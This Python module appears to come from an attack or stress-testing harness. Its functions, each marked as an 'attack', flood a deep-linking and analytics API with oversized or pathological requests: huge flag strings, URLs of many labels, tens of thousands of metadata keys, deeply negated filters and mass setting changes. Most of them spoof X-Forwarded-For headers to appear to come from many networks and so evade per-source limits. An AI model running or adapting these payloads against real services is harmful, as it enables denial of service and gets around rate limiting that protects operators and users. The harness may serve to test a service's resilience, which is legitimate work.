"""Texts and lists in places where few letters or a few elements are meant, which are read again and again."""

import json

from attacks.products import administrator
from attacks.registry import attack
from attacks.sending import IPHONE, lasting, rounds
from traffic import Outcome, ask, pipeline, request


def networks(number, count):
    """Senders of as many networks."""
    return [{"X-Forwarded-For": f"198.2{4 + number}.{network}.7"} for network in range(count)]


@attack
def flags_of_long_texts(target, until, number):
    """visits of links with texts of 60 KB where yes or no is meant"""
    flags = ["$do_not_process", "$use_https_app_store", "$web_only", "$ios_deepview", "$one_time_use", "$publicly_indexable"]
    outcome = Outcome()
    visits = []
    for index, flag in enumerate(flags):
        alias = f"flag{number}-{index}"
        link = {"branch_key": target.key, "alias": alias, "data": {flag: "É" * 31_000}}
        pipeline(target.port, [request("POST", "/v1/url", link)], outcome)
        visits += [
            request("GET", f"/{alias}{query}", headers=sender | {"User-Agent": IPHONE})
            for sender in networks(number, 4) for query in ("", "?has_app=true")]
    outcome.add(rounds(target, until, [[visit] for visit in visits]))
    return outcome


@attack
def appended_hosts_of_many_labels(target, until, number):
    """visits that append 58 URLs whose hosts have 126 dots, from as many networks as the limits admit"""
    host = ".".join("a" * 126)
    query = "&".join(f"$fallback_url=http://{host}" for _ in range(58))
    visits = [request("GET", f"{target.visit}?{query}", headers=sender) for sender in networks(number, min(32, target.at_once // 3))]
    return rounds(target, until, [[visit] for visit in visits])


@attack
def addresses_of_content(target, until, number):
    """events of content with an address of 480 KB that has as many items in its query"""
    content = [{"$canonical_url": "http://orchard.example.com/?_branch_match_id=1" + "&" * 480_000}]
    event = {"branch_key": target.key, "name": "PURCHASE", "content_items": content}
    return rounds(target, until, [[request("POST", "/v2/event/standard", event, sender)] for sender in networks(number, 2)])


@attack
def much_content_of_many_apps(target, until, number):
    """events of a hundred pieces of content each, of twelve apps, from as many networks"""
    content = [{"$canonical_identifier": f"pear/{piece}"} for piece in range(100)]
    events = [
        {"branch_key": f"{target.key[:33]}{app:08}", "name": "VIEW_ITEMS", "content_items": content}
        for app in range(1 + 3 * number, 4 + 3 * number)]
    return rounds(target, until, [
        [request("POST", "/v2/event/standard", event, sender)] * min(16, target.at_once // 2)
        for event in events for sender in networks(number, 4)])


@attack
def metadata_times_rules(target, until, number):
    """events with 40,000 members of metadata for which there are 20 reward rules"""
    admin, name = administrator(target, number), f"much{number}"
    rule = {"event": name, "reward": "actor", "amount": 1}
    outcome = Outcome()
    pipeline(target.port, [
        request("POST", f"/api/v1/rewards?app={target.key}", rule, {"Authorization": admin["Authorization"]}) for _ in range(20)], outcome)
    event = {
        "branch_key": target.key, "name": name, "user_data": {"os": "iOS", "developer_identity": f"much{number}"},
        "custom_data": {f"{member}": 1 for member in range(40_000)}}
    outcome.add(rounds(target, until, [[request("POST", "/v2/event/custom", event, sender)] for sender in networks(number, 2)]))
    return outcome


@attack
def names_that_are_repeated(target, until, number):
    """exports of the same columns 8,000 times, and event streams of one topic 5,000 times"""
    token = {"Authorization": f"Bearer {target.token}", "X-Forwarded-For": f"198.27.{number}.7"}
    order = {"report_type": "eo_open", "start_date": "today", "end_date": "today", "fields": ["all"] * 8000}
    topics = ",".join(["eo_pageview"] * 5000)
    return rounds(target, until, [
        [request("POST", f"/api/v1/exports?app={target.key}", order, token)],
        [request("GET", f"/api/v1/events/stream?app={target.key}&since=1&topic={topics}", headers=token)]])


@attack
def filters_that_negate_filters(target, until, number):
    """reports whose filters of a thousand values are negated 57 times"""
    condition = {"type": "in", "dimension": "name", "values": [f"{value:x}" for value in range(1000)]}
    for _ in range(57):
        condition = {"type": "not", "field": condition}
    column = {"field_name": "total_count", "data_source": "eo_open", "display_name": "a", "filter": condition}
    order = {"start_date": "today", "end_date": "today", "aggregations": [column] * 7}
    # Refused, because two columns have the same name, and so in no number of orders.
    call = request(
        "POST", f"/v1/branch_aggregate/async/analytics?app_id={target.app_id}", order, administrator(target, number))
    return rounds(target, until, [[call]] * 8)


@attack
def changes_of_many_settings(target, until, number):
    """changes that remove 190 settings of an app and add 25,000"""
    token = {"Authorization": administrator(target, number)["Authorization"]}
    outcome = Outcome()
    stored = {f"stored{number}-{setting}": "a" for setting in range(90)}
    pipeline(target.port, [request("PATCH", f"/api/v1/apps/{target.key}", {"settings": stored}, token)], outcome)
    change = dict.fromkeys(stored) | {f"new{setting}": 0 for setting in range(25_000)}
    call = {"branch_key": target.key, "branch_secret": target.secret} | change
    outcome.add(rounds(target, until, [[request("PUT", f"/v1/app/{target.key}", call, administrator(target, number))]] * 2))
    return outcome


@attack
def changes_of_many_links(target, until, number):
    """changes of 200 links at once by a text of 44,000 members"""
    admin = administrator(target, number)
    outcome = Outcome()
    token = {"Authorization": admin["Authorization"]}
    links = [ask(target.port, "POST", f"/api/v1/links?app={target.key}", {}, token)["id"] for _ in range(min(200, target.at_once))]
    data = json.dumps({f"{member}": 0 for member in range(44_000)}, separators=(",", ":"))
    call = request("PATCH", f"/api/v1/links?app={target.key}", {"links": links, "change": {"data": data}}, admin)
    for _ in lasting(until):
        pipeline(target.port, [call] * 4, outcome)
    return outcome


@attack
def rules_about_unknown_events(target, until, number):
    """reward rules for an event that none of 4,000 stored names of as many bytes is"""
    admin = administrator(target, number)
    outcome = Outcome()
    pipeline(target.port, [
        request("POST", "/v2/event/custom", {"branch_key": target.key, "name": f"{number}{name:04}" + "\u0390" * 40})
        for name in range(20 * target.at_once)], outcome)
    rule = {"event": "pears" + "\u0390" * 40, "reward": "actor", "amount": 1}
    call = request("POST", f"/api/v1/rewards?app={target.key}", rule, admin | {"Idempotency-Key": f"unknown{number}"})
    outcome.add(rounds(target, until, [[call]] * 6))
    return outcome
